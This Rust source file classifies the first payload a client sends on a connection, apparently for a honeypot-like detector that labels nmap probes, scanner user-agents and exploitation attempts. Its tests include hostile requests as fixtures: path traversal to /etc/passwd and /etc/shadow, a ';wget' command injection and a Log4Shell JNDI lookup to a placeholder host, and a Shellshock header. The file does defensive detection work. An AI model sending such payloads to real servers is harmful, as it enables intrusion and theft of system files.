//! First-payload classifier: what the first data a client sent on a connection says about it.
//!
//! Pure and total: any byte string (truncated, fragmented, binary) gets a [`Verdict`]; inputs that
//! look like TLS or HTTP but do not parse are [`Class::Malformed`] with the reason (counted by the
//! engine), never a panic (fuzz target `payload_classify`).
use super::probes::nmap_probe;
use super::tls::{looks_like_tls, parse_client_hello, ClientHello};
use crate::config::{DepthConfig, PatternKind};

/// Timeline phase a payload belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Phase {
    Discovery,
    Enumeration,
    Exploitation,
}

impl Phase {
    pub fn as_str(self) -> &'static str {
        match self {
            Phase::Discovery => "discovery",
            Phase::Enumeration => "enumeration",
            Phase::Exploitation => "exploitation",
        }
    }
}

/// What a first payload is.
#[derive(Debug, Clone, PartialEq)]
pub enum Class {
    /// The client closed without sending data: a banner grab, or nmap's NULL probe.
    Silent,
    /// Byte for byte one of nmap's service-detection probes (name).
    NmapProbe(&'static str),
    /// A request matching a `scanner_agent` or `nse_request` pattern set (set name, pattern).
    ScannerRequest { set: String, pattern: String },
    /// A request matching an exploitation pattern set.
    Exploit { kind: PatternKind, set: String, pattern: String },
    /// A TLS ClientHello from an unrecognised client.
    Tls,
    /// A well-formed HTTP request of no recognised scanner.
    Http,
    /// Data of no recognised shape.
    Other,
    /// Looked like TLS or HTTP but did not parse (reason).
    Malformed(String),
}

/// The classifier's answer.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    pub class: Class,
    /// The parsed ClientHello (also for nmap's TLS probes).
    pub tls: Option<ClientHello>,
    /// An HTTP authentication attempt (Authorization header, or a POST to a login path).
    pub auth_attempt: bool,
    /// The sample ended before the payload did.
    pub truncated: bool,
}

impl Verdict {
    /// The timeline phase this payload marks, if any.
    pub fn phase(&self) -> Option<Phase> {
        match &self.class {
            Class::Silent | Class::NmapProbe(_) | Class::ScannerRequest { .. } => Some(Phase::Enumeration),
            Class::Exploit { .. } => Some(Phase::Exploitation),
            _ => None,
        }
    }

    /// A short label for alerts: `nmap:GetRequest`, `scanner_agent:zgrab`, `path_traversal:../`.
    pub fn label(&self) -> String {
        match &self.class {
            Class::Silent => "banner_grab".into(),
            Class::NmapProbe(n) => format!("nmap:{n}"),
            Class::ScannerRequest { set, pattern } => format!("{set}:{pattern}"),
            Class::Exploit { kind, pattern, .. } => format!("{}:{pattern}", kind.as_str()),
            Class::Tls => "tls".into(),
            Class::Http => "http".into(),
            Class::Other => "other".into(),
            Class::Malformed(r) => format!("malformed:{r}"),
        }
    }
}

const METHODS: [&str; 10] = ["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PATCH", "PROPFIND"];

/// A parsed HTTP request head (as much as the sample holds).
#[derive(Debug, Default)]
struct HttpHead<'a> {
    method: &'a str,
    target: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: &'a [u8],
}

/// Parse an HTTP/1.x request head; `None` when the payload does not start like one, `Err` when it
/// does but the request line is broken.
fn parse_http(data: &[u8]) -> Option<Result<HttpHead<'_>, String>> {
    let method_end = data.iter().take(10).position(|b| *b == b' ')?;
    let method = std::str::from_utf8(&data[..method_end]).ok()?;
    if !METHODS.contains(&method) {
        return None;
    }
    let head_end = find(data, b"\r\n\r\n").map(|i| i + 4).unwrap_or(data.len());
    let head = &data[..head_end];
    let body = &data[head_end..];
    // Borrowed parsing needs valid UTF-8 in the head; fall back to the valid prefix.
    let valid = match std::str::from_utf8(head) {
        Ok(s) => s,
        Err(e) => match std::str::from_utf8(&head[..e.valid_up_to()]) {
            Ok(s) => s,
            Err(_) => return Some(Err("request head is not text".into())),
        },
    };
    let mut lines = valid.split("\r\n");
    let line = lines.next().unwrap_or("");
    let mut parts = line.splitn(3, ' ');
    let (Some(m), Some(target)) = (parts.next(), parts.next()) else {
        return Some(Err("request line without target".into()));
    };
    match parts.next() {
        Some(v) if v.starts_with("HTTP/") || v.starts_with("RTSP/") || v.starts_with("SIP/") => {}
        // The sample may end inside the request line.
        None if head_end == data.len() => {}
        _ => return Some(Err("request line without an HTTP version".into())),
    }
    let mut headers = Vec::new();
    for l in lines {
        if l.is_empty() {
            break;
        }
        if let Some((k, v)) = l.split_once(':') {
            headers.push((k.trim(), v.trim()));
        }
    }
    Some(Ok(HttpHead { method: m, target, headers, body }))
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

/// Percent-decode (lossy; invalid escapes kept as is).
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            let hex = |c: u8| (c as char).to_digit(16);
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// First pattern of a set of `kind` found in any of `hay` (all lower-case).
fn first_match(cfg: &DepthConfig, kind: PatternKind, hay: &[&str]) -> Option<(String, String)> {
    for set in cfg.sets(kind) {
        for m in &set.matches {
            if hay.iter().any(|h| h.contains(m.as_str())) {
                return Some((set.name.clone(), m.clone()));
            }
        }
    }
    None
}

/// Classify a client's first payload. `sample` is what was captured, `total_len` the payload's
/// full length (the sample may be shorter), `sent_data` false for a connection the client closed
/// without sending anything.
pub fn classify(cfg: &DepthConfig, sample: &[u8], total_len: usize, sent_data: bool) -> Verdict {
    let truncated = sample.len() < total_len;
    let mut v = Verdict { class: Class::Other, tls: None, auth_attempt: false, truncated };
    if !sent_data || (sample.is_empty() && total_len == 0) {
        v.class = Class::Silent;
        return v;
    }
    if looks_like_tls(sample) {
        match parse_client_hello(sample) {
            Ok(h) => {
                v.tls = Some(h);
                v.class = Class::Tls;
            }
            Err(e) => v.class = Class::Malformed(format!("tls: {e}")),
        }
    }
    if let Some(name) = nmap_probe(sample, total_len) {
        v.class = Class::NmapProbe(name);
        return v;
    }
    if v.tls.is_some() || matches!(v.class, Class::Malformed(_)) {
        return v;
    }
    let head = match parse_http(sample) {
        None => return v,
        Some(Err(e)) => {
            v.class = Class::Malformed(format!("http: {e}"));
            return v;
        }
        Some(Ok(h)) => h,
    };
    let target_raw = head.target.to_ascii_lowercase();
    let once = percent_decode(&target_raw);
    let twice = percent_decode(&once);
    let path = twice.split('?').next().unwrap_or("").to_string();
    let header_text: Vec<String> = head.headers.iter().map(|(_, val)| val.to_ascii_lowercase()).collect();
    let body = String::from_utf8_lossy(head.body).to_ascii_lowercase();
    let ua = head
        .headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("user-agent"))
        .map(|(_, val)| val.to_ascii_lowercase())
        .unwrap_or_default();
    v.auth_attempt = head.headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("authorization"))
        || (head.method == "POST" && ["login", "signin", "auth", "logon"].iter().any(|w| path.contains(w)));

    let targets = [target_raw.as_str(), once.as_str(), twice.as_str()];
    let mut shell_hay: Vec<&str> = vec![once.as_str(), twice.as_str(), body.as_str()];
    shell_hay.extend(header_text.iter().map(String::as_str));
    let exploit = first_match(cfg, PatternKind::PathTraversal, &targets)
        .map(|m| (PatternKind::PathTraversal, m))
        .or_else(|| first_match(cfg, PatternKind::ShellMetacharacters, &shell_hay).map(|m| (PatternKind::ShellMetacharacters, m)))
        .or_else(|| first_match(cfg, PatternKind::ExploitPath, &[path.as_str()]).map(|m| (PatternKind::ExploitPath, m)));
    if let Some((kind, (set, pattern))) = exploit {
        v.class = Class::Exploit { kind, set, pattern };
        return v;
    }
    let scanner = first_match(cfg, PatternKind::ScannerAgent, &[ua.as_str()])
        .or_else(|| first_match(cfg, PatternKind::NseRequest, &targets));
    v.class = match scanner {
        Some((set, pattern)) => Class::ScannerRequest { set, pattern },
        None => Class::Http,
    };
    v
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;
    use crate::depth::tls::tests::spec_example;

    fn cfg() -> DepthConfig {
        Config::default_embedded().depth
    }

    fn c(s: &[u8]) -> Verdict {
        classify(&cfg(), s, s.len(), true)
    }

    #[test]
    fn nmap_probes_and_scanners_are_enumeration() {
        for (name, bytes) in crate::depth::probes::NMAP_TCP_PROBES {
            let v = c(bytes);
            assert_eq!(v.class, Class::NmapProbe(name), "{name}");
            assert_eq!(v.phase(), Some(Phase::Enumeration));
        }
        let tls = c(crate::depth::probes::NMAP_TCP_PROBES.iter().find(|p| p.0 == "TLSSessionReq").expect("probe").1);
        assert!(tls.tls.is_some(), "nmap's TLS probe is also a parsed ClientHello");
        assert_eq!(classify(&cfg(), b"", 0, false).class, Class::Silent);
        let nse = c(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n\r\n");
        assert_eq!(nse.label(), "scanner-agents:nmap scripting engine");
        let check = c(b"GET /nmaplowercheck1700000000 HTTP/1.1\r\nHost: x\r\n\r\n");
        assert_eq!(check.label(), "nse-requests:/nmaplowercheck");
        let zgrab = c(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n");
        assert_eq!(zgrab.phase(), Some(Phase::Enumeration));
        let masscan = c(b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n");
        assert_eq!(masscan.label(), "scanner-agents:masscan");
    }

    #[test]
    fn exploit_shapes_are_exploitation() {
        for (req, kind) in [
            (&b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"[..], PatternKind::PathTraversal),
            (b"GET /static/%2e%2e/%2e%2e/etc/shadow HTTP/1.1\r\n\r\n", PatternKind::PathTraversal),
            (b"GET /a/%252e%252e/b HTTP/1.1\r\n\r\n", PatternKind::PathTraversal),
            (b"GET /index.php?cmd=%3Bwget%20http://x/y HTTP/1.1\r\n\r\n", PatternKind::ShellMetacharacters),
            (b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n\r\n", PatternKind::ShellMetacharacters),
            (b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\r\n", PatternKind::ShellMetacharacters),
            (b"GET /.env HTTP/1.1\r\nHost: x\r\n\r\n", PatternKind::ExploitPath),
            (b"POST /cgi-bin/luci HTTP/1.1\r\n\r\n", PatternKind::ExploitPath),
        ] {
            let v = c(req);
            assert!(matches!(&v.class, Class::Exploit { kind: k, .. } if *k == kind), "{:?} -> {v:?}", String::from_utf8_lossy(req));
            assert_eq!(v.phase(), Some(Phase::Exploitation));
        }
    }

    #[test]
    fn browsers_curl_and_tls_clients_are_benign() {
        for req in [
            &b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"[..],
            b"GET /docs/index.html?q=a+b HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html\r\n\r\n",
            b"GET /favicon.ico HTTP/1.1\r\nHost: a\r\n\r\n",
        ] {
            let v = c(req);
            assert_eq!(v.class, Class::Http, "{}", String::from_utf8_lossy(req));
            assert_eq!(v.phase(), None);
        }
        let t = c(&spec_example());
        assert_eq!(t.class, Class::Tls);
        assert_eq!(t.tls.as_ref().map(ClientHello::ja4).as_deref(), Some("t13d1516h2_8daaf6152771_e5627efa2ab1"));
        assert_eq!(t.phase(), None);
    }

    #[test]
    fn repeated_auth_is_flagged_per_request() {
        assert!(c(b"GET /admin HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n").auth_attempt);
        assert!(c(b"POST /user/login HTTP/1.1\r\nHost: x\r\n\r\nuser=a&pass=b").auth_attempt);
        assert!(!c(b"GET /login HTTP/1.1\r\nHost: x\r\n\r\n").auth_attempt);
    }

    #[test]
    fn truncated_and_malformed_inputs_are_classified_without_panic() {
        let hello = spec_example();
        let v = classify(&cfg(), &hello[..100], hello.len(), true);
        assert!(matches!(v.class, Class::Malformed(ref r) if r.contains("truncated at offset")), "{v:?}");
        assert!(v.truncated);
        assert!(matches!(c(b"GET\x00\xff HTTP/1.1").class, Class::Other | Class::Malformed(_)));
        assert!(matches!(c(b"GET /x\xff\xfe HTTP/1.1\r\n\r\n").class, Class::Malformed(_) | Class::Http));
        assert_eq!(c(b"\x00\x01\x02").class, Class::Other);
        assert_eq!(c(b"SSH-2.0-OpenSSH_9.2\r\n").class, Class::Other);
        assert_eq!(percent_decode("%"), "%");
        assert_eq!(percent_decode("%4"), "%4");
        assert_eq!(percent_decode("a%2e%2E"), "a..");
        // Every prefix of every test input.
        for p in crate::depth::probes::NMAP_TCP_PROBES.iter().map(|p| p.1).chain([&hello[..]]) {
            for i in 0..p.len() {
                let _ = classify(&cfg(), &p[..i], p.len(), true);
            }
        }
    }

    #[test]
    fn user_pattern_sets_extend_the_defaults() {
        let cfg = Config::from_toml_str(
            "[depth.patterns.mine]\nkind = \"exploit_path\"\nmatch = [\"/Internal/Debug\"]\n",
        )
        .expect("config")
        .depth;
        let v = classify(&cfg, b"GET /internal/debug HTTP/1.1\r\n\r\n", 31, true);
        assert_eq!(v.label(), "exploit_path:/internal/debug");
        assert!(cfg.patterns.iter().any(|p| p.name == "path-traversal"), "defaults kept");
        let err = Config::from_toml_str("[depth.patterns.bad]\nkind = \"nope\"\nmatch = [\"x\"]\n")
            .expect_err("bad kind");
        assert!(err.to_string().contains("depth.patterns.bad.kind"), "{err}");
        let err = Config::from_toml_str("[depth]\nretention = \"soon\"\n").expect_err("bad duration");
        assert!(err.to_string().contains("depth.retention"), "{err}");
    }
}
